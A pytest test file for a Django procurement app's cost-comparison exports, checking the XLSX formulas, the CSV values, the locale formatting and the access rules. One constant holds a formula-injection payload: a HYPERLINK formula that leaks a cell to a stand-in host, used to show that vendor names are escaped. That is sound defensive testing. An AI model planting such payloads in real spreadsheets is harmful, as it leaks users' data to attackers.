"""The comparison's exports: XLSX with live formulas over the RFQ's inputs, and CSV with
Decimal strings; vendor names can never become formulas; procurement and managers only."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from costing.xlsx import DECISION_ROWS, INPUT_ROWS, OFFER_ROWS, RESULT_ROWS
from tests.costing.factories import CompleteQuoteFactory, QuoteFactory, RfqFactory
from tests.costing.test_xlsx import Book
from tests.factories import VendorFactory

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def xlsx_url(rfq, months=None):
    return reverse("costing:comparison_xlsx", args=[rfq.pk]) + (
        f"?months={months}" if months else ""
    )


def csv_url(rfq, months=None):
    return reverse("costing:comparison_csv", args=[rfq.pk]) + (
        f"?months={months}" if months else ""
    )


@pytest.fixture
def rfq(procurement_user):
    return RfqFactory(
        owner=procurement_user, reference="RFQ 2026/007", own_management_per_month=Decimal(0)
    )


@pytest.fixture
def quotes(rfq):
    nearshore = CompleteQuoteFactory(
        rfq=rfq, vendor=VendorFactory(name="Lisbon Care", region="nearshore")
    )
    per_ticket = QuoteFactory(
        rfq=rfq,
        vendor=VendorFactory(name="Manila Desk", region="offshore"),
        pricing_model="per_ticket",
        hourly_rate=None,
        per_ticket_rate=Decimal("1.50"),
        onboarding_fee=Decimal(1000),
    )
    return nearshore, per_ticket


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


# --- XLSX -------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_xlsx_is_a_download_named_after_the_rfq_and_term(procurement_client, rfq, quotes):
    response = procurement_client.get(xlsx_url(rfq, 24))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    assert (
        response["Content-Disposition"] == 'attachment; filename="comparison-rfq-2026007-24m.xlsx"'
    )


@pytest.mark.django_db
def test_the_xlsx_holds_the_rfq_inputs_and_each_quote_cheapest_first(
    procurement_client, rfq, quotes
):
    workbook = openpyxl.load_workbook(io.BytesIO(procurement_client.get(xlsx_url(rfq)).content))

    assert workbook.sheetnames == [
        "Inputs",
        "Results",
        "Scenarios",
        "Hour by hour",
        "Decision",
        "Best value",
    ]
    inputs = workbook["Inputs"]
    assert inputs[f"B{INPUT_ROWS['volume_per_month']}"].value == 500
    assert inputs[f"B{INPUT_ROWS['aht_minutes']}"].value == 10
    assert inputs[f"B{INPUT_ROWS['months']}"].value == 12
    # An e-mail-only scope needs no opening-hours cover (e-mail is a backlog, docs/domain.md §1).
    assert inputs[f"B{INPUT_ROWS['coverage_hours_per_week']}"].value in (None, 0)
    assert inputs[f"B{INPUT_ROWS['fte']}"].value == 1
    assert inputs[f"B{INPUT_ROWS['gross_salary_month']}"].value == 2500
    # Manila (€1.50 × 500 × 12 + €1,000 = €10,000) before Lisbon (€20,000).
    assert inputs[f"C{OFFER_ROWS['label']}"].value == "Manila Desk"
    assert inputs[f"C{OFFER_ROWS['pricing_model']}"].value == "Per ticket"
    assert inputs[f"C{OFFER_ROWS['per_ticket_rate']}"].value == 1.5
    assert inputs[f"D{OFFER_ROWS['label']}"].value == "Lisbon Care"
    assert inputs[f"D{OFFER_ROWS['hourly_rate']}"].value == 18
    assert inputs[f"D{OFFER_ROWS['onboarding_fee']}"].value == 2000


@pytest.mark.django_db
def test_the_xlsx_results_are_live_formulas_that_match_the_page(procurement_client, rfq, quotes):
    book = Book(procurement_client.get(xlsx_url(rfq)).content)
    results = book.workbook["Results"]

    tco_row = RESULT_ROWS["tco"]
    assert (
        results[f"D{tco_row}"].value
        == f"=Inputs!B{INPUT_ROWS['months']}*D{RESULT_ROWS['monthly']}+D{RESULT_ROWS['one_time']}"
        f"+Inputs!B{INPUT_ROWS['transition_months']}*B{RESULT_ROWS['monthly']}"
    )
    assert "Inputs!D20" in results[f"D{RESULT_ROWS['variable_monthly']}"].value  # €/h × hours
    assert (
        "Inputs!C21" in results[f"C{RESULT_ROWS['variable_monthly']}"].value
    )  # €/ticket × handled

    assert book[f"Results!B{tco_row}"] == Decimal(40500)
    assert book[f"Results!C{tco_row}"] == Decimal(10000)
    assert book[f"Results!D{tco_row}"].quantize(Decimal("0.01")) == Decimal("20000.00")
    assert book[f"Results!D{RESULT_ROWS['roi_pct']}"].quantize(Decimal("0.01")) == Decimal("102.50")

    # Change the volume in "Excel": TCO, savings and ROI follow.
    book.set(f"Inputs!B{INPUT_ROWS['volume_per_month']}", 1000)
    assert book[f"Results!C{tco_row}"] == Decimal(19000)
    assert book[f"Results!C{RESULT_ROWS['savings']}"] == Decimal(21500)


@pytest.mark.django_db
def test_the_xlsx_decision_sheet_shows_the_pages_recommendation_with_labels(
    procurement_client, rfq, quotes
):
    workbook = openpyxl.load_workbook(
        io.BytesIO(procurement_client.get(xlsx_url(rfq)).content), data_only=True
    )
    page = procurement_client.get(reverse("costing:comparison", args=[rfq.pk])).context[
        "comparison"
    ]

    decision = workbook["Decision"]
    for index, column in enumerate(page.priced_columns):
        letter = "CD"[index]
        assert decision[f"{letter}{DECISION_ROWS['header']}"].value == column.quote.vendor.name
        assert (
            decision[f"{letter}{DECISION_ROWS['recommendation']}"].value
            == column.recommendation_label
        )
        assert decision[f"{letter}{DECISION_ROWS['risk']}"].value == float(column.risk)
        gaps = decision[f"{letter}{DECISION_ROWS['checklist_gaps']}"].value
        assert gaps == ("; ".join(column.gap_labels) or "—")
    texts = [cell.value for row in decision.iter_rows() for cell in row if cell.value]
    assert not {"per_ticket", "hourly", "below_market", "above_market"} & set(texts)


@pytest.mark.django_db
def test_a_vendor_name_cannot_become_a_formula_in_the_xlsx(procurement_client, rfq):
    QuoteFactory(rfq=rfq, vendor=VendorFactory(name=EVIL_NAME))

    workbook = openpyxl.load_workbook(io.BytesIO(procurement_client.get(xlsx_url(rfq)).content))

    assert workbook["Inputs"][f"C{OFFER_ROWS['label']}"].value == "'" + EVIL_NAME
    assert workbook["Results"][f"C{RESULT_ROWS['header']}"].value == "'" + EVIL_NAME


@pytest.mark.django_db
def test_a_quote_that_cannot_be_priced_is_left_out_of_the_xlsx(procurement_client, rfq, quotes):
    QuoteFactory(rfq=rfq, vendor=VendorFactory(name="No Rate Ltd"), hourly_rate=None)

    workbook = openpyxl.load_workbook(io.BytesIO(procurement_client.get(xlsx_url(rfq)).content))

    labels = [workbook["Inputs"].cell(row=OFFER_ROWS["label"], column=c).value for c in range(3, 6)]
    assert labels == ["Manila Desk", "Lisbon Care", None]


# --- CSV --------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_csv_lists_in_house_then_each_quote_cheapest_first(procurement_client, rfq, quotes):
    response = procurement_client.get(csv_url(rfq))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == 'attachment; filename="comparison-rfq-2026007-12m.csv"'
    )
    header, in_house, manila, lisbon = csv_rows(response)
    assert header[:8] == [
        "Rank",
        "Vendor",
        "Quote",
        "Term (months)",
        "FTE / agents",
        "Monthly",
        "One-time",
        "TCO",
    ]
    assert in_house[1:11] == [
        "In-house",
        "",
        "12",
        "1.00",
        "3375.00",
        "0.00",
        "40500.00",
        "6.75",
        "40500.00",
        "0.00",
    ]
    nearshore, _per_ticket = quotes
    assert lisbon[:4] == ["2", "Lisbon Care", str(nearshore.pk), "12"]
    named = dict(zip(header, lisbon, strict=True))
    assert named["TCO"] == "20000.00"
    assert named["Fixed"] == "2000.00"
    assert named["Variable"] == "18000.00"
    assert named["Savings"] == "20500.00"
    assert named["Savings %"] == "50.62"
    assert named["ROI %"] == "102.50"
    assert named["Break-even month"] == "2"
    assert named["Risk"] == "0.00"
    assert named["Recommendation"] == "Outsource"
    assert named["Checklist gaps"] == ""
    assert dict(zip(header, manila, strict=True))["TCO"] == "10000.00"


@pytest.mark.django_db
def test_the_csv_follows_the_chosen_term(procurement_client, rfq, quotes):
    rows = csv_rows(procurement_client.get(csv_url(rfq, 24)))
    header = rows[0]
    lisbon = dict(zip(header, rows[3], strict=True))
    assert lisbon["TCO"] == "38000.00"
    assert lisbon["Term (months)"] == "24"


@pytest.mark.django_db
def test_a_vendor_name_cannot_become_a_formula_in_the_csv(procurement_client, rfq):
    QuoteFactory(rfq=rfq, vendor=VendorFactory(name=EVIL_NAME), hourly_rate=Decimal(50))
    QuoteFactory(rfq=rfq, vendor=VendorFactory(name="+31 Calls"), hourly_rate=Decimal(60))
    QuoteFactory(rfq=rfq, vendor=VendorFactory(name="@Home Service"), hourly_rate=Decimal(70))

    rows = csv_rows(procurement_client.get(csv_url(rfq)))

    names = [row[1] for row in rows[2:]]
    assert names == ["'" + EVIL_NAME, "'+31 Calls", "'@Home Service"]
    # Negative savings stay numbers; no text cell anywhere starts a formula.
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "@")):
                raise AssertionError(f"formula-like cell {cell!r}")
            if cell.startswith("-"):
                Decimal(cell)  # a number, not text


@pytest.mark.django_db
def test_the_csv_explains_a_quote_that_cannot_be_priced(procurement_client, rfq, quotes):
    QuoteFactory(rfq=rfq, vendor=VendorFactory(name="No Fee Ltd"), pricing_model="subscription")

    rows = csv_rows(procurement_client.get(csv_url(rfq)))
    last = dict(zip(rows[0], rows[-1], strict=True))

    assert last["Vendor"] == "No Fee Ltd"
    assert last["TCO"] == ""
    assert last["Error"] == "Required for subscription pricing."
    assert "Tariff model" in last["Checklist gaps"]


# --- access and failure -----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("make_url", [xlsx_url, csv_url], ids=["xlsx", "csv"])
def test_export_access(
    request, make_url, rfq, quotes, manager_client, vendor_a_client, vendor_b_client, client
):
    assert manager_client.get(make_url(rfq)).status_code == 200
    assert vendor_a_client.get(make_url(rfq)).status_code == 403
    assert vendor_b_client.get(make_url(rfq)).status_code == 403
    assert client.get(make_url(rfq)).status_code == 302  # to sign-in


@pytest.mark.django_db
@pytest.mark.parametrize("make_url", [xlsx_url, csv_url], ids=["xlsx", "csv"])
def test_an_rfq_that_cannot_be_priced_goes_back_with_a_message(
    procurement_client, procurement_user, make_url
):
    rfq = RfqFactory(owner=procurement_user, channels=[])

    response = procurement_client.get(make_url(rfq), follow=True)

    assert response.redirect_chain[-1][0] == reverse("costing:comparison", args=[rfq.pk])
    assert "Nothing to export" in response.content.decode()


@pytest.mark.django_db
def test_the_dutch_csv_uses_semicolons_and_decimal_commas(
    procurement_user, procurement_client, rfq, quotes
):
    procurement_user.language = "nl"
    procurement_user.save()

    response = procurement_client.get(csv_url(rfq))

    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header, in_house, _manila, lisbon = rows
    assert len(header) == len(lisbon) > 20  # one column per field: no split on ","
    assert header[:3] == ["Positie", "Leverancier", "Offerte"]
    named = dict(zip(header, lisbon, strict=True))
    assert named["TCO"] == "20000,00"
    assert named["Besparing %"] == "50,62"
    assert named["Advies"] == "Uitbesteden"
    assert in_house[4] == "1,00"
    assert "." not in named["TCO"]


@pytest.mark.django_db
def test_the_english_csv_keeps_commas_and_decimal_points(procurement_client, rfq, quotes):
    rows = csv_rows(procurement_client.get(csv_url(rfq)))

    assert dict(zip(rows[0], rows[3], strict=True))["TCO"] == "20000.00"
